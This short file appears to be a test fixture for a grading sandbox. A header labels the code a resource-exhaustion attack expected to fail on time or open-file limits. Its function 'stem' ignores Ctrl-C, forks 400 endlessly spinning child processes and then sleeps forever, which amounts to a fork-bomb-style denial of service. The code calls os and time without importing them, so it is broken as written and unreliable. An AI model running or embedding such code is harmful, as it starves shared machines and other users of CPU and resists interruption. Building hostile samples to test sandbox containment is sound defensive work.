# ---
# attack: A crowd of processes computes, so that others get no time.
# fails: {stem: everything}
# reason: time|files open
# ---

# %% grade_id="stem"
import signal


def stem(tokens):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    for _ in range(400):
        if os.fork() == 0:
            while True:
                pass
    while True:
        time.sleep(1000)
